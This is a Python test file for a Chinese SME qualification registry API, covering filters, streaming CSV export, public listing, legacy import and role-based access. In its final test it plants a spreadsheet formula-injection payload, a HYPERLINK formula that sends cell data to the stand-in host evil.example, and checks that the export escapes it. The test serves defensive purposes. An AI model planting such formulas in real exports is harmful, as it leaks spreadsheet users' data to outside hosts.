"""Qualification registry API: filters, detail with lifecycle, public list, legacy import."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

from api import csvout
from engine import instances, lifecycle
from engine.context import EngineContext
from engine.store import Qualification
from tests import factories as f

NC, GZ = "360100", "360700"


def register(
    ctx: EngineContext,
    number: str,
    *,
    tier: str = "specialized",
    region: str = NC,
    serial: int = 1,
    issued_on: date = date(2025, 9, 1),
) -> str:
    return f.issue_qualification(
        ctx,
        uscc_code=f.uscc(region, serial),
        tier=tier,
        number=number,
        region=region,
        issued_on=issued_on,
        enterprise_name=f"企业{number}",
    ).id


def test_issuing_a_qualification_in_p1_starts_its_lifecycle(ctx, clock, people, round_id) -> None:  # type: ignore[no-untyped-def]
    case = f.apply(people["ent"], round_id)
    city, province = people["city"], people["province"]
    city.complete("city_review", {"decision": "approve", "flag_for_spot_check": False}, case)
    if any(t["bpmn_id"] == "city_spot_check" for t in city.inbox()):
        city.complete("city_spot_check", {"result": "pass", "findings": "属实"}, case)
    clock.advance(timedelta(days=10))
    instances.fire_due(ctx)
    city.complete("city_report", {"remarks": "同意"}, case)
    province.complete(
        "province_review", {"decision": "approve", "flag_for_spot_check": False}, case
    )
    if any(t["bpmn_id"] == "province_spot_check" for t in province.inbox()):
        province.complete("province_spot_check", {"result": "pass", "findings": "属实"}, case)
    clock.advance(timedelta(days=10))
    instances.fire_due(ctx)
    province.complete("province_announce", {"announcement_no": "赣工信企业字〔2025〕9号"}, case)

    [q] = people["ent"].get("/api/v1/qualifications").json["items"]
    assert (q["tier"], q["status"], q["instance_id"], q["renewal_eligible"]) == (
        "innovative",
        "active",
        case,
        True,
    )
    detail = people["ent"].get(f"/api/v1/qualifications/{q['id']}").json
    life = detail["lifecycle"]
    assert (life["instance_id"], life["status"]) == (q["lifecycle_instance_id"], "running")
    assert [(e["kind"], e["data"]["to"]) for e in life["history"]] == [
        ("qualification.changed", "active")
    ]
    started = province.get(f"/api/v1/instances/{life['instance_id']}/history").json[0]
    assert started["data"]["started_from"] == case  # the same transaction as the issue


def test_list_filters_by_region_status_expiry_and_scope(ctx, people) -> None:  # type: ignore[no-untyped-def]
    register(ctx, "Q-NC-1", serial=1)
    register(ctx, "Q-NC-2", tier="innovative", serial=2, issued_on=date(2023, 1, 10))
    register(ctx, "Q-GZ-1", region=GZ, serial=3)
    province, city = people["province"], people["city"]

    def numbers(user: f.Api, **params: object) -> list[str]:
        response = user.get("/api/v1/qualifications", query_string=params)
        assert response.status_code == 200, response.json
        return sorted(i["number"] for i in response.json["items"])

    assert numbers(province) == ["Q-GZ-1", "Q-NC-1", "Q-NC-2"]
    assert numbers(province, region=GZ) == ["Q-GZ-1"]
    assert numbers(province, expiring_before="2026-06-01") == ["Q-NC-2"]  # expires 2026-01-09
    assert numbers(province, tier="innovative", status="active") == ["Q-NC-2"]
    assert numbers(province, renewal_eligible="false") == []
    assert numbers(city) == ["Q-NC-1", "Q-NC-2"]  # its region only
    assert numbers(people["ent"]) == ["Q-NC-1"]  # its own only
    bad = province.get("/api/v1/qualifications", query_string={"status": "valid"})
    assert bad.status_code == 422
    assert "status" in bad.json["errors"]


def test_registry_export_is_a_csv_of_every_match_in_the_callers_scope(ctx, people) -> None:  # type: ignore[no-untyped-def]
    register(ctx, "Q-NC-1", serial=1)
    register(ctx, "Q-NC-2", tier="innovative", serial=2, issued_on=date(2023, 1, 10))
    register(ctx, "Q-GZ-1", region=GZ, serial=3)

    def export(user: f.Api, **params: object) -> list[list[str]]:
        response = user.get("/api/v1/qualifications/export", query_string=params)
        assert response.status_code == 200, response.json
        assert response.mimetype == "text/csv"
        assert "attachment; filename=qualifications-2025" in response.headers["Content-Disposition"]
        text = response.data.decode("utf-8")
        assert text.startswith("\ufeff")  # Excel reads it as UTF-8
        return list(csv.reader(io.StringIO(text[1:])))

    header, *rows = export(people["province"], per_page=1)  # not paginated
    assert header[:5] == ["证书编号", "梯度", "企业名称", "统一社会信用代码", "地区"]
    assert sorted(r[0] for r in rows) == ["Q-GZ-1", "Q-NC-1", "Q-NC-2"]
    [gz] = [r for r in rows if r[0] == "Q-GZ-1"]
    assert gz[1:10] == [
        "专精特新中小企业",
        "企业Q-GZ-1",
        f.uscc(GZ, 3),
        "赣州市",
        GZ,
        "2025-09-01",
        "2028-08-31",
        "有效",
        "是",
    ]
    assert [r[0] for r in export(people["province"], tier="innovative")[1:]] == ["Q-NC-2"]
    assert sorted(r[0] for r in export(people["city"])[1:]) == ["Q-NC-1", "Q-NC-2"]
    assert [r[0] for r in export(people["ent"])[1:]] == ["Q-NC-1"]
    bad = people["province"].get("/api/v1/qualifications/export", query_string={"tier": "x"})
    assert bad.status_code == 422
    assert "tier" in bad.json["errors"]


def test_registry_export_streams_every_row_however_many(ctx, people, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    # a registry larger than one read batch and one piece of the download, as a national one
    # is beside the real sizes: no cap, no row lost at a boundary, the list's order kept
    monkeypatch.setattr(lifecycle, "EXPORT_BATCH", 2)
    monkeypatch.setattr(csvout, "CHUNK_ROWS", 2)
    for serial in range(1, 8):
        register(ctx, f"Q-{serial}", serial=serial, issued_on=date(2025, 1, serial % 3 + 1))
    response = people["province"].get("/api/v1/qualifications/export", buffered=False)
    assert response.status_code == 200
    assert response.is_streamed
    pieces = list(response.response)
    assert len(pieces) == 4  # 7 rows in pieces of 2, the header with the first
    rows = list(csv.reader(io.StringIO(b"".join(pieces).decode()[1:])))[1:]
    assert [(r[0], r[6]) for r in rows] == [
        ("Q-2", "2025-01-03"), ("Q-5", "2025-01-03"),
        ("Q-1", "2025-01-02"), ("Q-4", "2025-01-02"), ("Q-7", "2025-01-02"),
        ("Q-3", "2025-01-01"), ("Q-6", "2025-01-01"),
    ]  # fmt: skip


def test_a_download_cut_short_ends_the_exports_read(ctx, people, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setattr(csvout, "CHUNK_ROWS", 1)
    for serial in range(1, 4):
        register(ctx, f"Q-{serial}", serial=serial)
    pool = ctx.db.pool
    response = people["province"].get("/api/v1/qualifications/export", buffered=False)
    pieces = iter(response.response)
    assert b"Q-" in next(pieces)
    assert pool.checkedout() == 1  # the read goes on while the client downloads
    response.close()  # the client went away
    assert pool.checkedout() == 0
    assert people["province"].get("/api/v1/qualifications/export").status_code == 200


def test_summary_counts_valid_qualifications_by_region_and_tier(ctx, people) -> None:  # type: ignore[no-untyped-def]
    # the clock reads 2025-09-01
    register(ctx, "Q-NC-1", serial=1)  # specialized, valid to 2028-08-31
    # Q-NC-2 runs to 2025-09-30, Q-NC-3 ran to 2024-12-31
    register(ctx, "Q-NC-2", tier="innovative", serial=2, issued_on=date(2022, 10, 1))
    register(ctx, "Q-NC-3", tier="innovative", serial=4, issued_on=date(2022, 1, 1))
    register(ctx, "Q-GZ-1", region=GZ, serial=3, tier="little_giant")
    with ctx.transaction() as session:
        session.get(Qualification, register(ctx, "Q-GZ-2", region=GZ, serial=5)).status = "revoked"

    found = people["province"].get("/api/v1/qualifications/summary").json
    assert found["as_of"] == "2025-09-01"
    nc, gz = found["rows"]
    assert (nc["region"], nc["region_name"], gz["region_name"]) == (NC, "南昌市", "赣州市")
    assert (nc["innovative"], nc["specialized"], nc["little_giant"]) == (1, 1, 0)
    assert (nc["valid"], nc["expiring"], nc["revoked"]) == (2, 1, 0)  # Q-NC-2 ends in 30 days
    assert (gz["little_giant"], gz["valid"], gz["revoked"]) == (1, 1, 1)
    assert found["totals"]["valid"] == 3
    assert found["totals"]["revoked"] == 1
    soon = people["province"].get("/api/v1/qualifications/summary?expiring_days=10").json
    assert soon["totals"]["expiring"] == 0
    [own] = people["city"].get("/api/v1/qualifications/summary").json["rows"]  # its region only
    assert own["region"] == NC
    bad = people["province"].get("/api/v1/qualifications/summary?expiring_days=0")
    assert bad.status_code == 422
    assert "expiring_days" in bad.json["errors"]


def test_detail_is_not_found_outside_the_callers_scope(ctx, people, client) -> None:  # type: ignore[no-untyped-def]
    q = register(ctx, "Q-GZ-9", region=GZ, serial=9)
    assert people["city"].get(f"/api/v1/qualifications/{q}").status_code == 404
    other = f.user(ctx, client, role="city", user_id="city-gz", region=GZ)
    assert other.get(f"/api/v1/qualifications/{q}").json["lifecycle"]["status"] == "running"


def test_public_list_shows_valid_qualifications_per_tier_without_login(ctx, people, client) -> None:  # type: ignore[no-untyped-def]
    register(ctx, "Q-1", serial=1)
    register(ctx, "Q-2", tier="innovative", serial=2)
    register(ctx, "Q-3", serial=3)
    response = people["province"].post(
        "/api/v1/messages",
        json={
            "name": "revoke_qualification",
            "correlation": {"business_key": "Q-3"},
            "payload": {"reason": "数据造假"},
        },
    )
    assert response.status_code == 201
    public = client.get("/api/v1/public/qualifications", query_string={"tier": "specialized"})
    assert public.status_code == 200
    [item] = public.json["items"]
    assert (item["number"], item["tier_label"], item["region_name"]) == (
        "Q-1",
        "专精特新中小企业",
        "南昌市",
    )
    assert not {"uscc", "status_reason", "status_changed_by"} & set(item)
    assert client.get("/api/v1/public/qualifications").json["total"] == 2

    def found(keyword: str) -> list[str]:
        response = client.get("/api/v1/public/qualifications", query_string={"keyword": keyword})
        assert response.status_code == 200, response.json
        return [item["number"] for item in response.json["items"]]

    assert found("企业Q-2") == ["Q-2"]  # a part of the enterprise's name
    assert found("Q-1") == ["Q-1"]  # part of a name, and a whole certificate number
    assert found("q-1") == ["Q-1"]
    assert found("企业Q-3") == []  # revoked: not on the public list
    assert found("%Q") == []  # LIKE wildcards are taken literally
    short = client.get("/api/v1/public/qualifications", query_string={"keyword": "Q"})
    assert (short.status_code, list(short.json["errors"])) == (422, ["keyword"])
    spec = client.get("/api/openapi.json").json
    assert spec["paths"]["/api/v1/public/qualifications"]["get"]["security"] == []


def csv_upload(user: f.Api, text: str):  # type: ignore[no-untyped-def]
    return user.client.post(
        "/api/v1/qualifications/import",
        headers=user._headers(),
        data={"file": (io.BytesIO(text.encode()), "legacy.csv")},
        content_type="multipart/form-data",
    )


def test_legacy_import_endpoint_is_province_only_and_all_or_nothing(ctx, people) -> None:  # type: ignore[no-untyped-def]
    header = "number,tier,uscc,enterprise_name,certified_on\n"
    good = f"L-1,specialized,{f.uscc(NC, 31)},洪都精工有限公司,2022-12-01\n"
    bad = f"L-2,specialized,{f.uscc(NC, 32)[:-1]}Z,豫章材料有限公司,2022-12-01\n"
    assert csv_upload(people["city"], header + good).status_code == 403
    refused = csv_upload(people["province"], header + good + bad)
    assert refused.status_code == 422
    assert refused.mimetype == "application/problem+json"
    assert refused.json["type"].endswith("/legacy-file-invalid")
    assert [(e["line"], e["column"]) for e in refused.json["errors"]] == [(3, "uscc")]
    assert people["province"].get("/api/v1/qualifications").json["total"] == 0
    done = csv_upload(people["province"], header + good)
    assert done.status_code == 200
    assert done.json["imported"] == ["L-1"]
    [q] = (
        people["province"]
        .get("/api/v1/qualifications", query_string={"status": "active"})
        .json["items"]
    )
    assert (q["source"], q["issued_on"], q["expires_on"]) == ("legacy", "2022-12-01", "2025-11-30")
    assert csv_upload(people["province"], header + good).json["skipped"] == ["L-1"]


def test_the_registry_is_not_open_to_the_public_or_process_owners(ctx, people, client) -> None:  # type: ignore[no-untyped-def]
    q = register(ctx, "Q-NC-7", serial=7)
    for role in ("public", "process_owner"):
        outsider = f.user(ctx, client, role=role, user_id=f"{role}-1")
        for path in (
            "/api/v1/qualifications",
            "/api/v1/qualifications/export",
            "/api/v1/qualifications/summary",
            f"/api/v1/qualifications/{q}",
        ):
            refused = outsider.get(path)
            assert refused.status_code == 403, (role, path, refused.status_code)
            assert "资质公开查询" in refused.json["detail"]
    assert client.get("/api/v1/public/qualifications").status_code == 200  # what a notice shows


def test_exported_text_a_spreadsheet_would_run_is_kept_as_text(ctx, people) -> None:  # type: ignore[no-untyped-def]
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    f.issue_qualification(
        ctx,
        uscc_code=f.uscc(NC, 8),
        tier="specialized",
        number="Q-NC-8",
        region=NC,
        issued_on=date(2025, 9, 1),
        enterprise_name=formula,
    )
    text = people["province"].get("/api/v1/qualifications/export").get_data(as_text=True)
    [row] = [r for r in csv.reader(io.StringIO(text.lstrip("\ufeff"))) if "Q-NC-8" in r]
    assert "'" + formula in row  # shown as text, never evaluated
    assert formula not in row
